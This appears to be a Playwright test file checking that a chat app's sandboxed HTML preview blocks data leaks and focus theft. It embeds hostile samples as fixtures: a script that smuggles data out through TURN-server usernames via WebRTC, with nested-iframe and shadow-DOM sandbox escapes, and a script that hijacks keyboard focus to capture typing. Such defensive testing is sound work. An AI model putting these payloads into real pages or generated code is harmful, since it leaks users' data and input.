import type { Frame, LaunchOptions, Page } from '@playwright/test';

import { startChangingProxy } from '../fixtures/changing-proxy.ts';
import { settings } from '../fixtures/names.ts';
import { startServer } from '../fixtures/server-process.ts';
import { expect, test as base } from '../fixtures/test.ts';
import { startTurnListener } from '../fixtures/turn-listener.ts';
import { serverUrl } from '../server-address.ts';

/** As on a desktop: a frame for foreign code has a process of its own. */
const test = base.extend<object, { readonly launchOptions: LaunchOptions }>({
  launchOptions: [
    async ({ launchOptions }, provide) => {
      await provide({
        ...launchOptions,
        args: [...(launchOptions.args ?? []), '--site-per-process'],
      });
    },
    { scope: 'worker' },
  ],
});

const fenced = (source: string): string => `Here it is.\n\n\`\`\`html\n${source}\n\`\`\`\n`;

/** A script that sends a word in the user name of a TURN server; `done` when it has tried. */
const sender = (turnUrl: string): string => `
async function send(word) {
  try {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: '${turnUrl}', username: word, credential: 'x' }],
    });
    connection.createDataChannel('x');
    await connection.setLocalDescription();
    await new Promise((resolve) => setTimeout(resolve, 1500));
    return 'asked';
  } catch {
    return 'refused';
  }
}`;

/** Tries it in the page and in every frame that it can make; then \`window.results\` is there. */
const smuggler = (turnUrl: string): string =>
  [
    '<p>Loading</p><script>',
    sender(turnUrl),
    'const nested = (set) => new Promise((resolve) => {',
    '  const frame = document.createElement("iframe");',
    '  addEventListener("message", ({ data }) => resolve(data));',
    '  setTimeout(() => resolve("silent"), 3000);',
    "  set(frame, send + \";send('nested').then((result) => parent.postMessage(result, '*'))\");",
    '});',
    'const inDocument = (frame) => document.body.append(frame);',
    'const inShadow = (frame) => { const host = document.createElement("div"); document.body.append(host); host.attachShadow({ mode: "closed" }).append(frame); };',
    '(async () => { window.results = {',
    '  own: await send("own"),',
    '  srcdoc: await nested((frame, code) => { frame.srcdoc = "<script>" + code + "<\\/script>"; inDocument(frame); }),',
    '  address: await nested((frame, code) => { frame.src = "javascript:" + encodeURIComponent(code + ";undefined"); inDocument(frame); }),',
    '  shadow: await nested((frame, code) => { frame.srcdoc = "<script>" + code + "<\\/script>"; inShadow(frame); }),',
    '}; })();',
    '</script>',
  ].join('\n');

/** Takes the keyboard again and again and remembers what comes. */
const thief = [
  '<input id="trap"><script>',
  'const trap = document.getElementById("trap");',
  'const take = () => { window.focus(); trap.focus(); HTMLDialogElement.prototype.showModal.call(bait); };',
  'const bait = document.createElement("dialog"); bait.append(document.createElement("input")); document.body.append(bait);',
  'setInterval(() => { bait.close(); take(); }, 20);',
  '</script>',
].join('\n');

async function previewFrame(page: Page): Promise<Frame> {
  const handle = await page.locator('iframe[title="Preview"]').elementHandle();
  const frame = await handle?.contentFrame();
  if (frame === null || frame === undefined) throw new Error('There is no preview');
  return frame;
}

async function resultsOf(frame: Frame): Promise<Record<string, string>> {
  await frame.waitForFunction(() => 'results' in window);
  return frame.evaluate(
    () => (globalThis as unknown as { results: Record<string, string> }).results,
  );
}

test('the answer of a frame for foreign code closes WebRTC by itself', async ({ page }) => {
  /** A listener of its own for each page: the one before may still be heard for a while. */
  async function packetsOf(address: string): Promise<number> {
    const turn = await startTurnListener();
    await page.goto(address);
    await page.evaluate(`(async () => { ${sender(turn.url)}; return send('secret'); })()`);
    turn.close();
    return turn.packets();
  }
  expect(await packetsOf('/changelog.html'), 'the listener hears what is sent').toBeGreaterThan(0);
  for (const frame of ['preview', 'mermaid']) {
    expect(await packetsOf(`/sandbox/${frame}.html`), frame).toBe(0);
  }
});

test('a preview sends nothing by WebRTC, from frames inside it neither', async ({
  parley,
  fake,
  page,
}) => {
  const turn = await startTurnListener();
  await parley.setUp();
  fake.set({ text: fenced(smuggler(turn.url)) });
  const reply = await parley.ask('Smuggle');
  await reply.getByRole('button', { name: 'Preview' }).click();
  expect(await resultsOf(await previewFrame(page))).toEqual({
    own: 'refused',
    srcdoc: 'silent',
    address: 'silent',
    shadow: 'silent',
  });
  await expect(page.getByText('This browser lets a preview send')).toBeHidden();
  expect(turn.packets()).toBe(0);
  turn.close();
});

test('where the browser leaves WebRTC open, scripts run without it and the person is told', async ({
  parley,
  fake,
  page,
  guards,
}) => {
  const turn = await startTurnListener();
  const proxy = await startChangingProxy(serverUrl, (_path, answer) => {
    const { 'connection-allowlist': _allowlist, ...headers } = answer.headers;
    return { ...answer, headers };
  });
  guards.allowOrigin(proxy.url);
  await parley.setUp({ address: proxy.url });
  fake.set({ text: fenced(smuggler(turn.url)) });
  const reply = await parley.ask('Smuggle');
  await reply.getByRole('button', { name: 'Preview' }).click();
  await expect(page.getByText('This browser lets a preview send')).toBeVisible();
  expect(await resultsOf(await previewFrame(page))).toEqual({
    own: 'refused',
    srcdoc: 'silent',
    address: 'silent',
    shadow: 'silent',
  });
  expect(turn.packets()).toBe(0);
  turn.close();
  await proxy.close();
});

test('a preview that takes the keyboard is closed, and what is typed stays in the page', async ({
  parley,
  fake,
  page,
}) => {
  await parley.setUp();
  fake.set({ text: fenced(thief) });
  const reply = await parley.ask('Steal');
  await reply.getByRole('button', { name: 'Preview' }).click();
  const panel = page.getByRole('complementary', { name: 'Preview' });
  await expect(panel.getByRole('alert')).toContainText('keyboard');
  await expect(page.locator('iframe[title="Preview"]')).toHaveCount(0);
  await parley.messageBox.click();
  await page.keyboard.type('my own words');
  await expect(parley.messageBox).toHaveValue('my own words');
  await panel.getByRole('button', { name: 'Run again' }).click();
  await expect(panel.getByRole('alert')).toContainText('keyboard');
});

test('a page that asks for the focus at its start runs on, and takes what is typed in it', async ({
  parley,
  fake,
  page,
}) => {
  await parley.setUp();
  fake.set({
    text: fenced(
      '<input aria-label="Name"><button>Go</button><script>document.querySelector("input").focus();window.loaded = true;</script>',
    ),
  });
  const reply = await parley.ask('A form');
  await reply.getByRole('button', { name: 'Preview' }).click();
  const inside = page.frameLocator('iframe[title="Preview"]');
  await (await previewFrame(page)).waitForFunction(() => 'loaded' in window);
  await parley.messageBox.click();
  await page.keyboard.type('outside');
  await inside.getByLabel('Name').click();
  await page.keyboard.type('inside');
  await expect(inside.getByLabel('Name')).toHaveValue('inside');
  await expect(parley.messageBox).toHaveValue('outside');
  // From the last button of the panel the Tab key leads into the page.
  await page.getByRole('button', { name: 'Close preview' }).focus();
  await page.keyboard.press('Tab');
  await expect(inside.getByLabel('Name')).toBeFocused();
  await page.keyboard.type('!');
  await expect(inside.getByLabel('Name')).toHaveValue(/!/);
  await expect(
    page.getByRole('complementary', { name: 'Preview' }).getByRole('alert'),
  ).toBeHidden();
});

test('no preview runs while a dialog stands over the page; afterwards it is back in its place', async ({
  parley,
  fake,
  page,
}) => {
  await parley.setUp();
  fake.set({ text: fenced('<p id="t">Running</p>') });
  const reply = await parley.ask('A page');
  await reply.getByRole('button', { name: 'Preview' }).click();
  const frame = page.locator('iframe[title="Preview"]');
  await expect(frame).toHaveCount(1);
  await parley.openSettings();
  await expect(frame).toHaveCount(0);
  await page.getByRole('button', { name: settings.close }).click();
  await expect(page.frameLocator('iframe[title="Preview"]').locator('#t')).toHaveText('Running');
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('dialog')).toBeVisible();
  await expect(frame).toHaveCount(0);
  await page.keyboard.press('Escape');
  await expect(frame).toHaveCount(1);
});

test('on a phone the preview runs in its own sheet', async ({ parley, fake, page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await parley.setUp();
  fake.set({
    text: fenced(
      '<button id="t">Count</button><script>let n = 0; t.onclick = () => { t.textContent = ++n; };</script>',
    ),
  });
  const reply = await parley.ask('A page');
  await reply.getByRole('button', { name: 'Preview' }).click();
  const inside = page.frameLocator('iframe[title="Preview"]').locator('#t');
  await inside.click();
  await inside.click();
  await expect(inside).toHaveText('2');
});

test('from an origin of its own a preview runs, and one that loops is closed with a notice', async ({
  parley,
  fake,
  page,
  guards,
}) => {
  const server = await startServer((port) => ({
    PUBLIC_URL: `http://127.0.0.1:${port}`,
    PARLEY_SANDBOX_ORIGIN: `http://localhost:${port}`,
  }));
  const frames = server.url.replace('127.0.0.1', 'localhost');
  guards.allowOrigin(server.url);
  guards.allowOrigin(frames);
  await parley.setUp({ address: server.url });
  fake.set({ text: `${fenced('<p id="t">Fine</p>')}\n\n\`\`\`mermaid\ngraph LR; a-->b\n\`\`\`\n` });
  const fine = await parley.ask('A page and a diagram');
  await expect(fine.getByRole('img').first()).toBeVisible();
  await fine.getByRole('button', { name: 'Preview' }).first().click();
  const shown = page.frameLocator('iframe[title="Preview"]').locator('#t');
  await expect(shown).toHaveText('Fine');
  expect((await previewFrame(page)).url()).toBe(`${frames}/sandbox/preview.html`);
  fake.set({ text: fenced('<p>Busy</p><script>setTimeout(() => { for (;;); }, 100);</script>') });
  const loops = await parley.ask('Loop');
  await loops.getByRole('button', { name: 'Preview' }).click();
  const panel = page.getByRole('complementary', { name: 'Preview' });
  // The page is at work while the frame is not.
  await parley.messageBox.fill('Still here');
  await expect(panel.getByRole('alert')).toContainText('stopped responding', { timeout: 30_000 });
  await expect(page.locator('iframe[title="Preview"]')).toHaveCount(0);
  await server.stop();
});
